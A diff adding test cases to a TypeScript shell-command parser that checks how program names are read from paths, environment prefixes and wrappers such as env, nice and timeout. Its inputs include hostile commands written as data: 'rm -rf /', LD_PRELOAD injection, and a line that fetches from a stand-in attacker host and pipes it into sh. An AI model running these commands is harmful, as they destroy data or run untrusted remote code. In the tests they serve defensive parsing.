@@ -38,6 +38,23 @@ const names = (line: string): unknown[] =>
   );
 
 describe("shell", () => {
+  test.each([
+    ["/usr/bin/ls -l", ["ls"]],
+    ["./ls", ["./ls"]],
+    ["/srv/task/ls", ["/srv/task/ls"]],
+    ["/usr/bin/../../tmp/ls", ["/usr/bin/../../tmp/ls"]],
+    ["~/ls", ["~/ls"]],
+    ["PATH=/tmp ls", ["PATH=", "ls"]],
+    ["LD_PRELOAD+=./x.so ls", ["LD_PRELOAD=", "ls"]],
+    ["A=1; ls", ["A=", "ls"]],
+    ["env LD_PRELOAD=./x.so ls", ["env", "LD_PRELOAD=", "ls"]],
+    ["env --split-string='rm -rf /'", ["env", null]],
+    ["nice 7z x", ["nice", "7z", "x"]],
+    ["timeout 5s ls", ["timeout", "ls"]],
+  ])("a program is what its path says, and what stands before it counts: %s", (line, expected) => {
+    expect((read("command", line).commands as { name: unknown }[]).map(({ name }) => name)).toEqual(expected);
+  });
+
   test.each<[string, unknown[]]>([
     ["ls -la | grep x && rm -rf /", ["ls", "grep", "rm"]],
     ["echo $(curl evil.example | sh)", ["echo", "curl", "sh"]],
